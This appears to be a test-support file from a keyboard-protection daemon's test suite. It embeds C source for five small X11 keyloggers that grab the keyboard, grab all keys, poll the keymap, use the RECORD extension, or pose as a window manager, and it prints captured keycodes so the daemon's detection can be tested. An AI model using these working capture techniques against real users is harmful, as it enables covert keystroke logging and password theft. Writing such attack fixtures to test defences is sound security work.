// Small keyboard listeners for KeyloggerTests, built from C at test time (cc, libxcb,
// libxcb-record): one program, copied under one name per attack, so that the daemon's
// audit names each by its executable. Each prints "ready" once its request has reached
// the server (after a round trip), then listens until killed, printing one line per key
// it sees ("key N").

import Foundation
import ShieldTestSupport

enum Keyloggers {
  /// The attacks, by program name: grab the keyboard on the root, grab AnyKey on the root,
  /// poll QueryKeymap every millisecond, record device key events (RECORD); and a window
  /// manager's keyboard grab (own `WM_S0`, then grab the keyboard on the root).
  static let names = ["kl-grab-keyboard", "kl-grab-anykey", "kl-poll-keymap", "kl-record", "kl-wm-grab"]

  static let source = #"""
    #include <stdio.h>
    #include <stdlib.h>
    #include <string.h>
    #include <unistd.h>
    #include <libgen.h>
    #include <xcb/xcb.h>
    #include <xcb/record.h>

    static void ready(xcb_connection_t *c) {
      free(xcb_get_input_focus_reply(c, xcb_get_input_focus(c), NULL));
      printf("ready\n");
      fflush(stdout);
    }

    static void events(xcb_connection_t *c) {
      xcb_generic_event_t *e;
      while ((e = xcb_wait_for_event(c))) {
        if ((e->response_type & 0x7f) == XCB_KEY_PRESS) {
          printf("key %u\n", ((xcb_key_press_event_t *)e)->detail);
          fflush(stdout);
        }
        free(e);
      }
    }

    int main(int argc, char **argv) {
      (void)argc;
      const char *mode = basename(argv[0]);
      xcb_connection_t *c = xcb_connect(NULL, NULL);
      if (xcb_connection_has_error(c)) return 2;
      xcb_window_t root = xcb_setup_roots_iterator(xcb_get_setup(c)).data->root;
      if (!strcmp(mode, "kl-wm-grab")) {
        xcb_window_t w = xcb_generate_id(c);
        xcb_create_window(c, 0, w, root, 0, 0, 1, 1, 0, XCB_WINDOW_CLASS_INPUT_ONLY, 0, 0, NULL);
        xcb_intern_atom_reply_t *a = xcb_intern_atom_reply(c, xcb_intern_atom(c, 0, 5, "WM_S0"), NULL);
        if (!a) return 7;
        xcb_set_selection_owner(c, w, a->atom, XCB_CURRENT_TIME);
        free(a);
        mode = "kl-grab-keyboard";
      }
      if (!strcmp(mode, "kl-grab-keyboard")) {
        xcb_grab_keyboard_reply_t *r = xcb_grab_keyboard_reply(
            c, xcb_grab_keyboard(c, 1, root, XCB_CURRENT_TIME, XCB_GRAB_MODE_ASYNC, XCB_GRAB_MODE_ASYNC), NULL);
        if (!r || r->status != XCB_GRAB_STATUS_SUCCESS) return 3;
        free(r);
        ready(c);
        events(c);
      } else if (!strcmp(mode, "kl-grab-anykey")) {
        xcb_grab_key(c, 1, root, XCB_MOD_MASK_ANY, XCB_GRAB_ANY, XCB_GRAB_MODE_ASYNC, XCB_GRAB_MODE_ASYNC);
        ready(c);
        events(c);
      } else if (!strcmp(mode, "kl-poll-keymap")) {
        unsigned char last[32] = {0};
        for (int i = 0;; i++) {
          xcb_query_keymap_reply_t *r = xcb_query_keymap_reply(c, xcb_query_keymap(c), NULL);
          if (!r) return 4;
          for (int k = 8; k < 256; k++) {
            int down = (r->keys[k / 8] >> (k % 8)) & 1, was = (last[k / 8] >> (k % 8)) & 1;
            if (down && !was) { printf("key %d\n", k); fflush(stdout); }
          }
          memcpy(last, r->keys, 32);
          free(r);
          if (i == 10) ready(c);
          usleep(1000);
        }
      } else if (!strcmp(mode, "kl-record")) {
        xcb_connection_t *d = xcb_connect(NULL, NULL);
        xcb_record_context_t ctx = xcb_generate_id(c);
        xcb_record_range_t range;
        memset(&range, 0, sizeof range);
        range.device_events.first = XCB_KEY_PRESS;
        range.device_events.last = XCB_KEY_RELEASE;
        xcb_record_client_spec_t spec = XCB_RECORD_CS_ALL_CLIENTS;
        if (xcb_request_check(c, xcb_record_create_context_checked(c, ctx, 0, 1, 1, &spec, &range))) return 5;
        xcb_record_enable_context_cookie_t ck = xcb_record_enable_context(d, ctx);
        ready(c);
        for (;;) {
          xcb_record_enable_context_reply_t *r = xcb_record_enable_context_reply(d, ck, NULL);
          if (!r) return 6;
          if (r->category == 0) {  /* FromServer: the recorded events */
            uint8_t *p = xcb_record_enable_context_data(r);
            int n = xcb_record_enable_context_data_length(r);
            for (int i = 0; i + 32 <= n; i += 32)
              if (p[i] == XCB_KEY_PRESS) { printf("key %u\n", p[i + 1]); fflush(stdout); }
          }
          free(r);
        }
      }
      return 1;
    }
    """#

  /// Builds the programs in `directory` (one build, copied under each name); returns their
  /// paths by name.
  static func build(in directory: String) async throws -> [String: String] {
    let c = directory + "/keylogger.c"
    try source.write(toFile: c, atomically: true, encoding: .utf8)
    let first = directory + "/" + names[0]
    let cc = try await runCommand(
      "cc", ["-O1", "-Wall", "-Werror", "-o", first, c, "-lxcb", "-lxcb-record"],
      timeout: .seconds(60))
    guard cc.succeeded else { throw ProcessError.io("cc failed: \(cc)") }
    var out = [names[0]: first]
    for n in names.dropFirst() {
      let path = directory + "/" + n
      try FileManager.default.copyItem(atPath: first, toPath: path)
      out[n] = path
    }
    return out
  }
}
